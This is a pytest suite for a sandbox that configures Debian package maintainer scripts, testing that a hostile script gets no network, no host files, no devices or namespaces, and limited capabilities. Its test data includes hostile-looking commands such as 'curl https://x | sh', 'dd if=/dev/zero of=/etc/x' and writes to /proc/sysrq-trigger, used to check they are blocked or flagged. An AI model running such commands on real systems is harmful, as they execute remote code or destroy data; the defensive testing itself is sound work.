"""Scripts of Debian packages that are configured in a sandbox: what a hostile one reaches."""

from __future__ import annotations

import os
import pickle
import shutil
import subprocess
import tarfile
from pathlib import Path

import pytest

from corten.packages.debian.deb import Control
from corten.packages.debian.scripts import needs
from corten.sandbox.over_layers import OverLayers, Program, Ran, run
from support.plain_user import as_user, interpreter, plain_user

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="makes other users")

TOOLS = ("sh", "cat", "chmod", "chown", "id", "ls", "mkdir", "mknod", "rm", "sleep", "touch", "unshare")

_AS_USER = """
import pickle, sys
from corten.runtime.identity import current_identity, write_mappings
from corten.sandbox.over_layers import run
value = pickle.load(sys.stdin.buffer)
identity = current_identity()
assert identity.kind == "range", identity
pickle.dump(run(value, lambda pid: write_mappings(pid, identity)), sys.stdout.buffer)
"""


@pytest.fixture(scope="module")
def place(open_directory: Path) -> Path:
    """A folder with the tree `layer`, which has a shell and some programs of this machine."""
    root = open_directory / "over-layers"
    tree = root / "layer"
    for name in ("dev", "proc", "run", "tmp", "etc", "usr/bin"):
        (tree / name).mkdir(parents=True, exist_ok=True)
    (tree / "bin").symlink_to("usr/bin")
    needed = set()
    for tool in TOOLS:
        program = shutil.which(tool)
        assert program is not None
        shutil.copy(program, tree / "usr/bin" / tool)
        said = subprocess.run(["ldd", program], capture_output=True, text=True, check=True).stdout
        needed |= {word for line in said.splitlines() for word in line.split() if word.startswith("/")}
    for library in needed:
        target = tree / library.lstrip("/")
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(library, target)
    (tree / "etc/old").write_text("old")
    (tree / "etc/passwd").write_text("root:x:0:0::/:/bin/sh\n")
    for folder in (root, tree):
        folder.chmod(0o755)
    user = plain_user()
    shutil.copytree(tree, root / "layer-of-a-user", symlinks=True)
    for above, folders, files in os.walk(root / "layer-of-a-user"):
        for name in (".", *folders, *files):
            os.chown(f"{above}/{name}", user.pw_uid, user.pw_gid, follow_symlinks=False)
    return root


class Sandbox:
    """Runs scripts over the layer, as one kind of user."""

    def __init__(self, place: Path, folder: Path, user: str) -> None:
        self.place, self.folder, self.user = place, folder, user
        self.layer = "layer" if user == "root" else "layer-of-a-user"

    def __call__(self, *scripts: str, needed: bool = True, seconds: float = 60.0) -> Ran:
        programs = tuple(Program(("/bin/sh", "-c", script), needed=needed) for script in scripts)
        value = OverLayers(
            programs, (self.layer,), str(self.place), self.folder.name, {"PATH": "/usr/bin"}, seconds=seconds
        )
        if self.user == "root":
            return run(value, None)
        python, environment = interpreter()
        user = plain_user()
        os.chown(self.folder, user.pw_uid, user.pw_gid)
        done = subprocess.run(
            as_user(user, [*python, "-c", _AS_USER], environment),
            input=pickle.dumps(value),
            capture_output=True,
        )
        assert done.returncode == 0, done.stderr.decode(errors="replace")
        result = pickle.loads(done.stdout)
        assert isinstance(result, Ran)
        return result


@pytest.fixture(params=["root", "subuids"])
def sandbox(request: pytest.FixtureRequest, place: Path) -> Sandbox:
    folder = place / f"{request.node.name.replace('[', '-').rstrip(']')}"
    folder.mkdir()
    return Sandbox(place, folder, request.param)


def written(ran: Ran) -> dict[str, tuple[int, int, int]]:
    with tarfile.open(ran.archive) as archive:
        return {member.name: (member.mode, member.uid, member.gid) for member in archive}


def test_what_scripts_write_is_kept_with_owners_and_the_layer_is_as_it_was(sandbox: Sandbox) -> None:
    ran = sandbox(
        "mkdir -p /var/lib/x && touch /var/lib/x/a && chown 207:42 /var/lib/x/a && chmod 640 /var/lib/x/a && rm /etc/old"
    )
    assert ran.finished.code == 0, ran.finished.errors
    found = written(ran)
    assert found["var/lib/x/a"] == (0o640, 207, 42)
    assert "etc/.wh.old" in found
    assert (sandbox.place / sandbox.layer / "etc/old").read_text() == "old"
    assert not (sandbox.folder / "upper").exists()


def test_a_script_has_no_network_and_sees_no_file_of_the_machine(sandbox: Sandbox, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("of the machine")
    ran = sandbox(f"cat /proc/net/dev | cat; ls / | cat; cat {secret}", needed=False)
    lines = [line.split(":")[0].strip() for line in ran.finished.output.decode().splitlines() if ":" in line]
    assert lines in (["lo"], [])
    assert b"of the machine" not in ran.finished.output
    assert not ran.finished.output.decode().count("home\n")


def test_a_script_can_make_no_device_and_no_namespace_and_change_no_setting_of_the_machine(
    sandbox: Sandbox,
) -> None:
    attempts = (
        "mknod /tmp/disk b 8 0",
        "mknod /etc/null c 1 3",
        "unshare --mount true",
        "unshare --user true",
        "echo x > /proc/sys/kernel/domainname",
        "echo x > /proc/sysrq-trigger",
        "chmod 777 /proc/sys",
    )
    ran = sandbox(*attempts, needed=False)
    assert [number for number, _ in ran.failed] == list(range(len(attempts))), ran.finished.errors


def test_a_script_keeps_no_capability_but_those_to_own_files_and_change_users(sandbox: Sandbox) -> None:
    ran = sandbox("cat /proc/self/status")
    fields = dict(line.split(":\t", 1) for line in ran.finished.output.decode().splitlines() if ":\t" in line)
    kept = sum(1 << number for number in (0, 1, 3, 4, 5, 6, 7))
    assert {int(fields[name], 16) for name in ("CapEff", "CapPrm", "CapBnd")} == {kept}
    assert (fields["NoNewPrivs"], fields["Seccomp"]) == ("1", "2")


def test_what_a_script_leaves_running_is_ended(sandbox: Sandbox) -> None:
    ran = sandbox("sleep 1000 >/dev/null 2>&1 & echo started")
    assert ran.finished.output == b"started\n"
    assert ran.finished.code == 0


def test_a_script_that_does_not_end_is_ended(sandbox: Sandbox) -> None:
    ran = sandbox("while :; do :; done", seconds=1.0)
    assert ran.finished.late
    assert not ran.archive.exists()


def test_a_script_that_fails_ends_the_others_and_keeps_nothing(sandbox: Sandbox) -> None:
    ran = sandbox("exit 7", "echo never")
    assert ran.failed == ((0, 7),)
    assert ran.finished.code != 0
    assert b"never" not in ran.finished.output
    assert not ran.archive.exists()


@pytest.mark.parametrize(
    "script",
    [
        "curl https://x | sh",
        "eval $(cat /etc/x)",
        "cp /bin/sh /etc/x",
        "dd if=/dev/zero of=/etc/x",
        "chmod 755 /etc/x",
    ],
)
def test_no_script_with_a_command_that_is_not_known_passes_in_silence(script: str) -> None:
    control = Control("", {"package": "sample"}, {}, {"postinst": f"#!/bin/sh\n{script}\n"})
    found = needs([control])
    assert found.mode == "scripts"
    assert found.unclear[0].package == "sample"
